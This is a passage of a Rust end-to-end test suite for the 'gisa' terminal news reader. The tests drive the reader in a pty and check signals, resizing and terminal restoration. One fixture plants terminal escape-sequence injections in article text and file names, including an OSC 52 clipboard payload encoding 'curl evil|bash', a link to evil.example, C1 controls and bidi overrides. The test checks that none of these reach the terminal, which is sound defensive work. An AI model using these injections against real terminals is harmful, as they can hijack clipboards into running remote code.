//! End to end: the built `gisa` binary opened as a reader in a real pty (portable-pty) at
//! 120x40 with TERM=xterm-256color, its output parsed by vt100. Every wait polls the parsed
//! screen until a deadline (`GISA_E2E_TIMEOUT_SECS`, longer when `CI` is set); no fixed sleeps.
//! These tests only drive the binary: they never look inside the library.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::io::{Read, Write};
use std::num::NonZeroU16;
use std::path::Path;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

use portable_pty::{Child, CommandBuilder, MasterPty, PtySize, native_pty_system};

const ROWS: u16 = 40;
const COLS: u16 = 120;

/// How long any one wait may take.
fn timeout() -> Duration {
    let secs = std::env::var("GISA_E2E_TIMEOUT_SECS")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(if std::env::var_os("CI").is_some() {
            60
        } else {
            20
        });
    Duration::from_secs(secs)
}

/// Two tiny articles the loader can read.
fn write_articles(dir: &Path) {
    std::fs::write(
        dir.join("001_alpha.txt"),
        "Alpha summit opens in Seoul\n\nSEOUL (Reuters) - Leaders met on Monday for the alpha summit.\n\nThe talks continue on Tuesday.\n",
    )
    .unwrap();
    std::fs::write(
        dir.join("002_beta.txt"),
        "Beta talks stall in Tokyo\n\nTOKYO (Reuters) - Negotiators failed to agree on Friday.\n\nA new round is planned.\n",
    )
    .unwrap();
}

/// The reader running in a pty, with a thread feeding its output to a vt100 parser.
struct Session {
    child: Box<dyn Child + Send + Sync>,
    master: Option<Box<dyn MasterPty + Send>>,
    writer: Option<Box<dyn Write + Send>>,
    parser: Arc<Mutex<vt100::Parser>>,
    /// Every byte the reader wrote, for checks on sequences the screen does not show.
    raw: Arc<Mutex<Vec<u8>>>,
    /// Set to make the output thread drop its end of the pty after its next read.
    stop_reading: Arc<AtomicBool>,
    output: Option<JoinHandle<()>>,
    /// The temporary articles folder, kept until the session ends.
    dir: Option<tempfile::TempDir>,
}

impl Session {
    fn start(env: &[(&str, &str)]) -> Session {
        let dir = tempfile::tempdir().unwrap();
        write_articles(dir.path());
        let mut session = Session::start_in(dir.path(), env);
        session.dir = Some(dir);
        session
    }

    /// Run the reader on the articles in `dir` (which the caller keeps). Read marks go to
    /// `dir/state` unless `env` says otherwise, never to the real home.
    fn start_in(dir: &Path, env: &[(&str, &str)]) -> Session {
        Session::start_with(dir, &[], env)
    }

    /// Like `start_in`, with more command-line arguments (`--config FILE`).
    fn start_with(dir: &Path, args: &[&str], env: &[(&str, &str)]) -> Session {
        let mut command = vec![
            env!("CARGO_BIN_EXE_gisa").to_owned(),
            "--articles".to_owned(),
            dir.display().to_string(),
        ];
        command.extend(args.iter().map(|a| (*a).to_owned()));
        Session::start_argv(&command, dir, env)
    }

    /// Run the command `argv` in `dir` in a fresh 120x40 pty, with the same environment as the
    /// reader gets.
    fn start_argv(argv: &[String], dir: &Path, env: &[(&str, &str)]) -> Session {
        let pty = native_pty_system()
            .openpty(PtySize {
                rows: ROWS,
                cols: COLS,
                pixel_width: 0,
                pixel_height: 0,
            })
            .unwrap();
        let mut cmd = CommandBuilder::new(&argv[0]);
        cmd.args(&argv[1..]);
        // No config.toml in the temp folder: the built-in config is used.
        cmd.cwd(dir);
        cmd.env("XDG_STATE_HOME", dir.join("state"));
        cmd.env("GISA_CACHE_DIR", dir.join("cache"));
        cmd.env("TERM", "xterm-256color");
        cmd.env_remove("NO_COLOR");
        // A UTF-8 locale whatever the test runner has, so the reader draws its Unicode borders.
        cmd.env_remove("LC_ALL");
        cmd.env_remove("LC_CTYPE");
        cmd.env("LANG", "C.UTF-8");
        for (k, v) in env {
            cmd.env(k, v);
        }
        let child = pty.slave.spawn_command(cmd).unwrap();
        drop(pty.slave);

        let parser = Arc::new(Mutex::new(vt100::Parser::new(
            NonZeroU16::new(ROWS).unwrap(),
            NonZeroU16::new(COLS).unwrap(),
            0,
        )));
        let raw = Arc::new(Mutex::new(Vec::new()));
        let stop_reading = Arc::new(AtomicBool::new(false));
        let mut reader = pty.master.try_clone_reader().unwrap();
        let output = {
            let parser = Arc::clone(&parser);
            let raw = Arc::clone(&raw);
            let stop = Arc::clone(&stop_reading);
            thread::spawn(move || {
                let mut buf = [0u8; 8192];
                loop {
                    match reader.read(&mut buf) {
                        Ok(0) | Err(_) => return,
                        Ok(n) => {
                            raw.lock().unwrap().extend_from_slice(&buf[..n]);
                            parser.lock().unwrap().process(&buf[..n]);
                        }
                    }
                    if stop.load(Ordering::SeqCst) {
                        return;
                    }
                }
            })
        };
        let writer = pty.master.take_writer().unwrap();
        Session {
            child,
            master: Some(pty.master),
            writer: Some(writer),
            parser,
            raw,
            stop_reading,
            output: Some(output),
            dir: None,
        }
    }

    fn send(&mut self, keys: &str) {
        let writer = self.writer.as_mut().unwrap();
        writer.write_all(keys.as_bytes()).unwrap();
        writer.flush().unwrap();
    }

    /// Resize the terminal (the reader gets SIGWINCH): the parser first, and the pty while the
    /// parser is held, so that no byte of the reader's frame for the new size can be parsed at
    /// the old one. (Resized the other way round, a frame that came between the two was drawn
    /// into a screen of the old size, and the reader, idle after it, never drew the new size
    /// again.)
    fn resize(&self, rows: u16, cols: u16) {
        let mut parser = self.parser.lock().unwrap();
        parser.set_size(
            NonZeroU16::new(rows).unwrap(),
            NonZeroU16::new(cols).unwrap(),
        );
        self.master
            .as_ref()
            .unwrap()
            .resize(PtySize {
                rows,
                cols,
                pixel_width: 0,
                pixel_height: 0,
            })
            .unwrap();
        drop(parser);
    }

    /// Everything the reader wrote so far, bytes that are not UTF-8 replaced.
    fn raw_text(&self) -> String {
        String::from_utf8_lossy(&self.raw.lock().unwrap()).into_owned()
    }

    /// The process has not ended.
    fn is_running(&mut self) -> bool {
        self.child.try_wait().unwrap().is_none()
    }

    fn screen_text(&self) -> String {
        self.parser.lock().unwrap().screen().contents()
    }

    /// Poll the parsed screen until `ok` holds; fail with the screen when the deadline passes.
    fn wait_until(&self, what: &str, ok: impl Fn(&vt100::Screen) -> bool) {
        let deadline = Instant::now() + timeout();
        loop {
            if ok(self.parser.lock().unwrap().screen()) {
                return;
            }
            assert!(
                Instant::now() < deadline,
                "timed out waiting for {what}; screen:\n{}",
                self.screen_text()
            );
            thread::sleep(Duration::from_millis(20));
        }
    }

    fn wait_for_text(&self, text: &str) {
        self.wait_until(&format!("{text:?}"), |s| s.contents().contains(text));
    }

    /// Wait for the process to end; returns its exit code.
    fn wait_exit(&mut self) -> u32 {
        let deadline = Instant::now() + timeout();
        loop {
            if let Some(status) = self.child.try_wait().unwrap() {
                // The process is gone, but its last bytes (the terminal restored) may not have
                // been read from the pty yet: wait for the reading thread to meet the end.
                let drained = Instant::now() + Duration::from_secs(5);
                while self.output.as_ref().is_some_and(|h| !h.is_finished())
                    && Instant::now() < drained
                {
                    thread::sleep(Duration::from_millis(10));
                }
                return status.exit_code();
            }
            if Instant::now() >= deadline {
                let _ = self.child.kill();
                panic!(
                    "the reader did not exit in time; screen:\n{}",
                    self.screen_text()
                );
            }
            thread::sleep(Duration::from_millis(20));
        }
    }

    fn pid(&self) -> u32 {
        self.child.process_id().unwrap()
    }
}

impl Drop for Session {
    fn drop(&mut self) {
        if let Ok(None) = self.child.try_wait() {
            let _ = self.child.kill();
            let _ = self.child.wait();
        }
    }
}

/// The text of the list row drawn in reverse video, if any.
fn selected_row(screen: &vt100::Screen) -> Option<String> {
    let rows: Vec<String> = screen.rows(0, COLS).collect();
    (1..ROWS - 2)
        .find(|&r| screen.cell(r, 2).is_some_and(vt100::Cell::inverse))
        .map(|r| rows[usize::from(r)].clone())
}

/// The status bar's "P of N articles": the selection's place and the list's length.
fn list_position(screen: &str) -> Option<(usize, usize)> {
    let line = screen.lines().rev().find(|l| l.contains(" articles"))?;
    let words: Vec<&str> = line.split_whitespace().collect();
    let i = words.iter().position(|w| *w == "articles")?;
    let (at, of) = (words.get(i.checked_sub(3)?)?, words.get(i - 1)?);
    (words.get(i - 2) == Some(&"of")).then_some(())?;
    Some((at.parse().ok()?, of.parse().ok()?))
}

/// Wait until the reader is up with the first article selected.
fn started(env: &[(&str, &str)]) -> Session {
    let s = Session::start(env);
    s.wait_until("the reader on the alternate screen", |screen| {
        screen.alternate_screen() && screen.contents().contains("1 of 2 articles")
    });
    s
}

#[test]
fn j_moves_the_selection_and_q_leaves_the_terminal_clean() {
    let mut s = started(&[]);
    s.wait_until("the first article selected", |screen| {
        selected_row(screen).is_some_and(|r| r.contains("Alpha summit"))
    });
    s.wait_for_text("Leaders met on Monday");

    s.send("j");
    s.wait_for_text("2 of 2 articles");
    s.wait_until("the second article selected", |screen| {
        selected_row(screen).is_some_and(|r| r.contains("Beta talks"))
    });
    // The reader follows the selection at once.
    s.wait_for_text("Negotiators failed to agree");

    s.send("q");
    assert_eq!(s.wait_exit(), 0, "q must exit with status 0");
    s.wait_until("the alternate screen left", |screen| {
        !screen.alternate_screen() && !screen.hide_cursor()
    });
}

#[test]
fn ctrl_c_quits_like_q() {
    let mut s = started(&[]);
    s.send("\x03");
    assert_eq!(s.wait_exit(), 0);
    s.wait_until("the alternate screen left", |screen| {
        !screen.alternate_screen()
    });
}

#[test]
fn no_color_keeps_the_selection_in_reverse_video() {
    let mut s = started(&[("NO_COLOR", "1")]);
    s.wait_until("a reverse-video selection", |screen| {
        selected_row(screen).is_some_and(|r| r.contains("Alpha summit"))
    });
    {
        let parser = s.parser.lock().unwrap();
        let screen = parser.screen();
        for row in 0..ROWS {
            for col in 0..COLS {
                let cell = screen.cell(row, col).unwrap();
                assert_eq!(
                    (cell.fgcolor(), cell.bgcolor()),
                    (vt100::Color::Default, vt100::Color::Default),
                    "colour at {row},{col} under NO_COLOR"
                );
            }
        }
    }
    s.send("q");
    assert_eq!(s.wait_exit(), 0);
}

/// SIGTERM, SIGINT and SIGHUP (with the terminal still there) leave through the normal quit
/// path, with the shell's 128 + signal status.
#[test]
fn sigterm_sigint_and_sighup_restore_the_terminal() {
    for (signal, code) in [("-TERM", 128 + 15), ("-INT", 128 + 2), ("-HUP", 128 + 1)] {
        let mut s = started(&[]);
        let status = std::process::Command::new("kill")
            .arg(signal)
            .arg(s.pid().to_string())
            .status()
            .unwrap();
        assert!(status.success());
        assert_eq!(s.wait_exit(), code, "{signal}");
        s.wait_until("the alternate screen left", |screen| {
            !screen.alternate_screen() && !screen.hide_cursor()
        });
    }
}

/// Closing the pty (an SSH connection dropping) ends the reader: it must not hang or spin.
#[test]
fn hang_up_ends_the_reader() {
    let mut s = started(&[]);
    // Make the output thread let go of its copy of the pty after the redraw `j` causes.
    s.stop_reading.store(true, Ordering::SeqCst);
    s.send("j");
    if let Some(output) = s.output.take() {
        output.join().unwrap();
    }
    drop(s.writer.take());
    drop(s.master.take());
    let started = Instant::now();
    let code = s.wait_exit();
    eprintln!("hang-up: exit {code} after {:?}", started.elapsed());
    assert_eq!(code, 128 + 1, "a hang-up ends the reader as SIGHUP would");
    assert!(
        started.elapsed() < timeout(),
        "took {:?} to notice the hang-up",
        started.elapsed()
    );
}

/// The context switches of every thread of process `pid`: a thread that wakes up, for a timer
/// or a poll, adds one.
#[cfg(target_os = "linux")]
fn context_switches(pid: u32) -> u64 {
    let mut total = 0;
    for task in std::fs::read_dir(format!("/proc/{pid}/task")).unwrap() {
        let status =
            std::fs::read_to_string(task.unwrap().path().join("status")).unwrap_or_default();
        for line in status.lines() {
            if let Some(n) = line
                .strip_prefix("voluntary_ctxt_switches:")
                .or_else(|| line.strip_prefix("nonvoluntary_ctxt_switches:"))
            {
                total += n.trim().parse::<u64>().unwrap();
            }
        }
    }
    total
}

/// While nothing happens the reader sleeps: no thread of it wakes up at all (no tick, no
/// watchdog timer). Counted, not timed: the kernel's context-switch counters do not depend on
/// how busy the machine is.
#[cfg(target_os = "linux")]
#[test]
fn an_idle_reader_does_not_wake_up() {
    let mut s = started(&[]);
    s.send("j");
    s.wait_until("the second article selected", |screen| {
        selected_row(screen).is_some_and(|r| r.contains("Beta"))
    });
    // Let the last redraw and the threads settle, then watch for two seconds.
    let mut before = context_switches(s.pid());
    for _ in 0..50 {
        thread::sleep(Duration::from_millis(200));
        let now = context_switches(s.pid());
        if now == before {
            break;
        }
        before = now;
    }
    thread::sleep(Duration::from_secs(2));
    let after = context_switches(s.pid());
    assert_eq!(
        after,
        before,
        "the idle reader woke up {} times",
        after - before
    );
    // And it still answers.
    s.send("q");
    assert_eq!(s.wait_exit(), 0);
}

#[test]
fn stdout_that_is_not_a_terminal_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    write_articles(dir.path());
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_gisa"))
        .arg("--articles")
        .arg(dir.path())
        .current_dir(dir.path())
        .env("GISA_CACHE_DIR", dir.path().join("cache"))
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(
        out.stdout.is_empty(),
        "nothing may reach a non-terminal stdout"
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains(
            "standard output is not a terminal; use 'gisa list' or 'gisa show ID' for plain output"
        ),
        "{err}"
    );
    assert!(!err.contains('\x1b'), "escape sequences on stderr: {err:?}");
    assert!(
        err.starts_with("gisa: standard output"),
        "one prefix: {err}"
    );
}

#[test]
fn a_bookmark_and_the_read_state_survive_a_restart() {
    let dir = tempfile::tempdir().unwrap();
    write_articles(dir.path());
    let mut s = Session::start_in(dir.path(), &[]);
    s.wait_for_text("1 of 2 articles");
    s.send("m");
    s.wait_for_text("bookmarked");
    // Open the second article: opening marks it read.
    s.send("j\r");
    s.wait_for_text("Negotiators failed to agree");
    s.send("q");
    assert_eq!(s.wait_exit(), 0);
    drop(s);
    let saved = std::fs::read_dir(dir.path().join("state/gisa/marks"))
        .unwrap()
        .count();
    assert_eq!(saved, 1, "one marks file for this folder");

    let mut s = Session::start_in(dir.path(), &[]);
    s.wait_for_text("1 of 2 articles");
    // The first row (Alpha, bookmarked) starts with the mark; the second does not.
    s.wait_until("the bookmark mark on the first row", |screen| {
        screen.cell(1, 1).is_some_and(|c| c.contents() == "*")
            && screen.cell(2, 1).is_some_and(|c| c.contents() == " ")
    });
    // Beta was read: its row is dimmed; Alpha's is not.
    s.wait_until("the read row dimmed", |screen| {
        screen.cell(2, 3).is_some_and(vt100::Cell::dim)
            && !screen.cell(1, 3).is_some_and(vt100::Cell::dim)
    });
    s.send("q");
    assert_eq!(s.wait_exit(), 0);
}

#[test]
fn filter_follow_a_cross_reference_and_come_back_on_the_seeds() {
    let dir = tempfile::tempdir().unwrap();
    let seeds = Path::new(env!("CARGO_MANIFEST_DIR")).join("articles");
    for entry in std::fs::read_dir(&seeds).unwrap() {
        let path = entry.unwrap().path();
        std::fs::copy(&path, dir.path().join(path.file_name().unwrap())).unwrap();
    }
    let mut s = Session::start_in(dir.path(), &[]);
    s.wait_for_text("1 of 5 articles");
    s.send("/year:2019");
    s.wait_for_text("/year:2019");
    s.send("\r");
    s.wait_for_text("year:2019  · 1 of 1 article");
    // Open 003 and go to its sidebar; the related stories follow the names: the last item is
    // the fourth story, two up is the second (001, the 2023 Seoul summit).
    s.send("\r");
    s.wait_for_text("Reuters · 2019-11-23 · NAGOYA");
    s.send("\t");
    s.wait_for_text("Enter open");
    s.send("Gkk\r");
    s.wait_for_text("Bloomberg · 2023");
    s.wait_for_text("Seek to Mend Ties");
    // The filter hid 001, so it is dropped: 001 is the second of all five.
    s.wait_for_text("2 of 5 articles");
    // Backspace: back to 003 with the 2019 filter.
    s.send("\x7f");
    s.wait_for_text("year:2019  · 1 of 1 article");
    s.wait_for_text("Reuters · 2019-11-23 · NAGOYA");
    // Ctrl-I as a terminal with the kitty keyboard protocol sends it (CSI 105;5u, apart from
    // Tab): forward to 001 again.
    s.send("\x1b[105;5u");
    s.wait_for_text("Seek to Mend Ties");
    s.wait_for_text("2 of 5 articles");
    s.send("q");
    assert_eq!(s.wait_exit(), 0);
    let raw = s.raw_text();
    let (push, pop) = ("\x1b[>1u", "\x1b[<1u");
    assert!(raw.contains(push), "the keyboard flags are asked for");
    assert!(
        raw.rfind(pop) > raw.find(push),
        "and popped again on the way out"
    );
}

/// The sequences that turn mouse reporting on (crossterm's `EnableMouseCapture`).
const MOUSE_ON: [&str; 4] = ["\x1b[?1000h", "\x1b[?1002h", "\x1b[?1003h", "\x1b[?1006h"];

#[test]
fn the_mouse_is_not_captured_by_default() {
    let mut s = started(&[]);
    s.send("j");
    s.wait_for_text("2 of 2 articles");
    s.send("q");
    assert_eq!(s.wait_exit(), 0);
    s.wait_until("the alternate screen left", |screen| {
        !screen.alternate_screen()
    });
    let raw = s.raw_text();
    for on in MOUSE_ON {
        assert!(!raw.contains(on), "{on:?} written without reader.mouse");
    }
}

#[test]
fn with_reader_mouse_the_wheel_scrolls_the_reader_and_q_lets_the_mouse_go() {
    let dir = tempfile::tempdir().unwrap();
    let paragraphs: Vec<String> = (1..=60)
        .map(|i| format!("Paragraph {i:02} of the long story."))
        .collect();
    std::fs::write(
        dir.path().join("001_long.txt"),
        format!("A long story to scroll\n\n{}\n", paragraphs.join("\n\n")),
    )
    .unwrap();
    let config = dir.path().join("mouse.toml");
    std::fs::write(&config, "[reader]\nmouse = true\n").unwrap();
    let mut s = Session::start_with(dir.path(), &["--config", config.to_str().unwrap()], &[]);
    // The reader's first rows: headline, meta line, a blank, the first paragraph. At 120x40 the
    // reader pane takes columns 36 to 90.
    let reader_row =
        |screen: &vt100::Screen, r: usize| screen.rows(36, 54).nth(r).unwrap_or_default();
    s.wait_until("the long story in the reader", |screen| {
        reader_row(screen, 1).contains("A long story to scroll")
            && reader_row(screen, 4).contains("Paragraph 01")
    });
    assert!(
        s.raw_text().contains("\x1b[?1006h"),
        "mouse capture was not turned on"
    );
    // SGR wheel down at column 60, row 10 (1-based): over the reader.
    s.send("\x1b[<65;60;10M");
    s.wait_until("the reader scrolled by three lines", |screen| {
        reader_row(screen, 1).contains("Paragraph 01")
    });
    // Wheel up over the list moves the selection, not the reader: nothing to move to here.
    s.send("\x1b[<64;10;10M");
    // Wheel up over the reader scrolls back.
    s.send("\x1b[<64;60;10M");
    s.wait_until("the reader scrolled back to the top", |screen| {
        reader_row(screen, 1).contains("A long story to scroll")
    });
    s.send("q");
    assert_eq!(s.wait_exit(), 0);
    s.wait_until("the alternate screen left", |screen| {
        !screen.alternate_screen() && !screen.hide_cursor()
    });
    let raw = s.raw_text();
    let on = raw.rfind("\x1b[?1000h").unwrap();
    for off in ["\x1b[?1000l", "\x1b[?1006l"] {
        assert!(
            raw.rfind(off).is_some_and(|at| at > on),
            "{off:?} not written after the capture was turned on"
        );
    }
}

#[test]
fn resizing_down_to_1x1_and_back_keeps_the_reader_alive_and_restores_the_terminal() {
    let mut s = started(&[]);
    for (rows, cols) in [(1, 1), (6, 30), (12, 40), (ROWS, COLS)] {
        s.resize(rows, cols);
        // Let the reader draw each size: "too small" cut to one cell, then the status bar on
        // the new last row (the old frame's rows there held list rows).
        s.wait_until(&format!("a frame at {cols}x{rows}"), |screen| {
            let last = screen.rows(0, cols).nth(usize::from(rows - 1));
            if rows == 1 {
                screen.contents() == "\u{2026}"
            } else {
                last.is_some_and(|r| r.contains("1 of 2 articles"))
            }
        });
        assert!(
            s.is_running(),
            "the reader died at {cols}x{rows}:\n{}",
            s.screen_text()
        );
    }
    s.wait_until("the full layout again", |screen| {
        let text = screen.contents();
        text.contains("Articles")
            && text.contains("Reader")
            && text.contains("Details")
            && text.contains("1 of 2 articles")
    });
    assert!(s.is_running());
    s.send("q");
    assert_eq!(
        s.wait_exit(),
        0,
        "q must exit with status 0 after the resizes"
    );
    s.wait_until("the alternate screen left", |screen| {
        !screen.alternate_screen() && !screen.hide_cursor()
    });
}

#[test]
fn a_c_locale_gets_ascii_borders() {
    for env in [[("LC_ALL", "C")], [("TERM", "dumb")]] {
        let mut s = started(&env);
        s.wait_until("ASCII borders", |screen| {
            screen.cell(0, 0).is_some_and(|c| c.contents() == "+")
        });
        {
            let parser = s.parser.lock().unwrap();
            let text = parser.screen().contents();
            assert!(text.is_ascii(), "{env:?}: not all ASCII:\n{text}");
        }
        s.send("q");
        assert_eq!(s.wait_exit(), 0);
    }
}

/// The fields of `/proc/PID/stat` after the command name (state, parent, ...), `None` once the
/// process is gone. The name is in parentheses and may hold spaces: they follow the last `)`.
fn stat_fields(pid: u32) -> Option<Vec<String>> {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    Some(
        stat.rsplit_once(')')?
            .1
            .split_whitespace()
            .map(str::to_owned)
            .collect(),
    )
}

/// The state letter of process `pid` (`R`, `S`, `T` stopped, `Z` zombie), `None` once it is gone.
fn process_state(pid: u32) -> Option<char> {
    stat_fields(pid)?.first()?.chars().next()
}

/// Wait until `ok` holds for the state of `pid`; fail after the deadline.
fn wait_for_state(pid: u32, what: &str, ok: impl Fn(Option<char>) -> bool) {
    let deadline = Instant::now() + timeout();
    while !ok(process_state(pid)) {
        assert!(
            Instant::now() < deadline,
            "timed out waiting for {what}: state {:?}",
            process_state(pid)
        );
        thread::sleep(Duration::from_millis(20));
    }
}

/// Ctrl-Z (a key in raw mode) gives the terminal back and stops the reader; continued (`fg`),
/// it takes the screen again and redraws it whole.
#[test]
fn ctrl_z_suspends_and_continuing_redraws() {
    let mut s = started(&[]);
    s.send("\x1a");
    s.wait_until("the terminal given back", |screen| {
        !screen.alternate_screen() && !screen.hide_cursor()
    });
    let pid = s.pid();
    wait_for_state(pid, "the reader stopped", |st| st == Some('T'));
    let status = std::process::Command::new("kill")
        .args(["-CONT", &pid.to_string()])
        .status()
        .unwrap();
    assert!(status.success());
    s.wait_until("the reader back and drawn", |screen| {
        screen.alternate_screen() && screen.contents().contains("1 of 2 articles")
    });
    s.send("j");
    s.wait_until("keys work again", |screen| {
        selected_row(screen).is_some_and(|r| r.contains("Beta"))
    });
    s.send("q");
    assert_eq!(s.wait_exit(), 0);
}

/// Hundreds of resizes as fast as the pty takes them, down to 1x1 and up to 500x200: no panic,
/// and the screen ends at the last size with everything in place.
#[test]
fn a_resize_storm_never_panics_and_the_last_size_wins() {
    let mut s = started(&[]);
    let sizes: [(u16, u16); 8] = [
        (1, 1),
        (200, 500),
        (6, 30),
        (2, 3),
        (24, 80),
        (12, 40),
        (100, 1),
        (1, 100),
    ];
    for i in 0..400 {
        let (rows, cols) = sizes[i % sizes.len()];
        s.resize(rows, cols);
    }
    s.resize(24, 80);
    s.wait_until("the 80x24 layout", |screen| {
        let rows: Vec<String> = screen.rows(0, 80).collect();
        rows.len() == 24 && rows[23].contains("1 of 2 articles")
    });
    assert!(s.is_running(), "the reader survived the storm");
    s.send("q");
    assert_eq!(s.wait_exit(), 0);
}

/// The hang-up reaches the reader even when no SIGHUP does: here it runs in a session of its
/// own (setsid), so the terminal is not its controlling terminal and the kernel signals only
/// the session leader. The watcher blocked in poll(2) sees POLLHUP and the reader leaves.
#[test]
fn a_hang_up_without_sighup_ends_the_reader() {
    let dir = tempfile::tempdir().unwrap();
    write_articles(dir.path());
    let argv: Vec<String> = [
        "setsid",
        "-w",
        env!("CARGO_BIN_EXE_gisa"),
        "--articles",
        &dir.path().display().to_string(),
    ]
    .iter()
    .map(|a| (*a).to_owned())
    .collect();
    let mut s = Session::start_argv(&argv, dir.path(), &[]);
    s.wait_for_text("1 of 2 articles");
    // setsid forks (it was started as a session leader); the reader is its child.
    let leader = s.pid();
    let reader = std::fs::read_dir("/proc")
        .unwrap()
        .filter_map(|e| e.ok()?.file_name().to_str()?.parse::<u32>().ok())
        .find(|&pid| stat_fields(pid).and_then(|f| f.get(1)?.parse::<u32>().ok()) == Some(leader))
        .expect("the reader under setsid");
    s.stop_reading.store(true, Ordering::SeqCst);
    s.send("j");
    if let Some(output) = s.output.take() {
        output.join().unwrap();
    }
    drop(s.writer.take());
    drop(s.master.take());
    let started = Instant::now();
    wait_for_state(reader, "the reader to end", |st| {
        st.is_none() || st == Some('Z')
    });
    eprintln!("hang-up without SIGHUP: gone after {:?}", started.elapsed());
}

/// A panic restores the terminal first (raw mode off, alternate screen left, cursor shown, mouse
/// capture off, keyboard flags popped) and the report is printed after it, readable: each of its
/// lines starts at the left edge, which a terminal still in raw mode would not do.
#[test]
fn a_panic_restores_the_terminal_before_the_report() {
    let dir = tempfile::tempdir().unwrap();
    let argv = [common::example("panic_probe").display().to_string()];
    let mut s = Session::start_argv(&argv, dir.path(), &[("RUST_BACKTRACE", "0")]);
    assert_eq!(s.wait_exit(), 101, "a panic exits 101");
    s.wait_until("the report on the normal screen", |screen| {
        !screen.alternate_screen()
            && !screen.hide_cursor()
            && screen.contents().contains("second line of the report")
    });
    let screen = s.screen_text();
    for text in [
        "deliberate panic to test the restore",
        "second line of the report",
    ] {
        let line = screen.lines().find(|l| l.contains(text)).unwrap();
        assert!(line.starts_with(text), "{line:?} in:\n{screen}");
    }
    let raw = s.raw_text();
    let last_on = raw.rfind("\x1b[?1000h").expect("mouse capture was on");
    assert!(
        raw.rfind("\x1b[?1000l") > Some(last_on),
        "mouse capture off"
    );
    assert!(
        raw.rfind("\x1b[<1u") > raw.rfind("\x1b[>1u"),
        "keyboard flags popped"
    );
}

/// A folder of articles and file names full of escape sequences, C1 controls and bidi
/// overrides, a binary file, and files that hang or flood a naive reader: a FIFO, a link to
/// /dev/zero, a link loop. Two articles load.
fn write_hostile_folder(dir: &Path) {
    std::fs::write(
        dir.join("001_osc.txt"),
        "Summit \x1b]0;pwned-title\x07opens \x1b]52;c;Y3VybCBldmlsfGJhc2gK\x07in Seoul\n\n\
         SEOUL (Reuters) - Leaders \x1b[2J\x1b[Hmet \x1b[6non \x1bPq#0;2;0;0;0\x1b\\Monday \
         \x1b_apc-payload\x1b\\in \x1b^pm-payload\x1b\\Seoul \x1bXsos-payload\x1b\\and \
         \u{9b}31mtalked \u{9d}0;c1-title\u{7}about \u{202e}trade\u{202c} and \
         \x1b]8;;http://evil.example/\x07ties\x1b]8;;\x07 \x1bc\x07\x08 today.\n\n\
         Kishida \x1b[31mmet\x1b[0m Yoon Suk Yeol.\n",
    )
    .unwrap();
    std::fs::write(
        dir.join("002_\x1b[31mred\x1b]0;name-title\x07\u{202e}.txt"),
        "Talks end in Tokyo\n\nTOKYO (AP) - The talks ended on Friday.\n",
    )
    .unwrap();
    std::fs::write(dir.join("003_binary.txt"), b"\x1b]0;bin\x07\0\0").unwrap();
    // Files that hang or flood a naive reader: a FIFO, a link to /dev/zero, a link loop.
    let fifo = std::process::Command::new("mkfifo")
        .arg(dir.join("004_fifo.txt"))
        .status()
        .unwrap();
    assert!(fifo.success());
    std::os::unix::fs::symlink("/dev/zero", dir.join("005_zero.txt")).unwrap();
    std::os::unix::fs::symlink("006_loop_b.txt", dir.join("006_loop_a.txt")).unwrap();
    std::os::unix::fs::symlink("006_loop_a.txt", dir.join("006_loop_b.txt")).unwrap();
}

/// Articles and a file name full of escape sequences, C1 controls and bidi overrides, shown in
/// every pane and overlay: the bytes the reader writes hold only its own sequences (cursor
/// moves, colours, the screen and cursor modes, the keyboard flags), never one from a file.
#[test]
fn hostile_articles_never_put_a_foreign_sequence_on_the_terminal() {
    let dir = tempfile::tempdir().unwrap();
    write_hostile_folder(dir.path());
    let mut s = Session::start_in(dir.path(), &[]);
    s.wait_for_text("of 2 articles");
    s.send("!");
    for name in [
        "003_binary.txt",
        "004_fifo.txt",
        "005_zero.txt",
        "006_loop_a.txt",
    ] {
        s.wait_for_text(name);
    }
    s.send("\x1b");
    for keys in [
        "j", "k", "\r", "\t", "j", "j", "j", "\r", "!", "\x1b", "?", "\x1b", "t", "\x1b", "y",
        "\x1b", "o", "\x1b", "s",
    ] {
        s.send(keys);
        thread::sleep(Duration::from_millis(30));
    }
    s.wait_for_text("Kishida");
    s.send("q");
    assert_eq!(s.wait_exit(), 0);
    let raw = s.raw_text();
    for payload in [
        "pwned",
        "Y3VybCBldmlsfGJhc2gK",
        "evil.example",
        "apc-payload",
        "pm-payload",
        "sos-payload",
        "c1-title",
        "name-title",
        "\x1b]",
        "\x1bP",
        "\x1b_",
        "\x1b^",
        "\x1bX",
        "\x1bc",
        "\x1b[6n",
        "\x1b[2J\x1b[H",
        "\u{202e}",
        "\u{7}",
        "\u{8}",
    ] {
        assert!(!raw.contains(payload), "{payload:?} reached the terminal");
    }
    assert!(
        !raw.chars().any(|c| ('\u{80}'..='\u{9f}').contains(&c)),
        "a C1 control reached the terminal"
    );
    // Every escape sequence is one of the reader's own CSIs.
    let mut seen = std::collections::BTreeSet::new();
    let mut rest = raw.as_str();
    while let Some(at) = rest.find('\x1b') {
        rest = &rest[at + 1..];
        assert!(
            rest.starts_with('['),
            "a non-CSI escape: {:?}",
            &rest[..rest.len().min(20)]
        );
        let body = &rest[1..];
        let end = body
            .find(|c: char| !(c.is_ascii_digit() || matches!(c, ';' | '?' | '<' | '>' | ':')))
            .unwrap();
        let final_byte = body[end..].chars().next().unwrap();
        // Moves (absolute and relative), attributes, erases, modes, keyboard flags.
        assert!(
            "HABCDGmJKXhlu".contains(final_byte),
            "unexpected CSI final {final_byte:?} in {:?}",
            &body[..(end + 1).min(body.len())]
        );
        if matches!(final_byte, 'h' | 'l') {
            seen.insert(body[..=end].to_owned());
        }
        rest = &body[end..];
    }
    for mode in &seen {
        assert!(
            ["?1049h", "?1049l", "?25h", "?25l", "?2004h", "?2004l"].contains(&mode.as_str()),
            "unexpected mode {mode:?}"
        );
    }
}

/// Output to a terminal but no terminal to read keys from (no controlling terminal, input from
/// /dev/null, as under some job runners): a clear one-line error and status 1, nothing hangs.
#[test]
fn no_terminal_to_read_keys_from_is_a_clear_error() {
    let dir = tempfile::tempdir().unwrap();
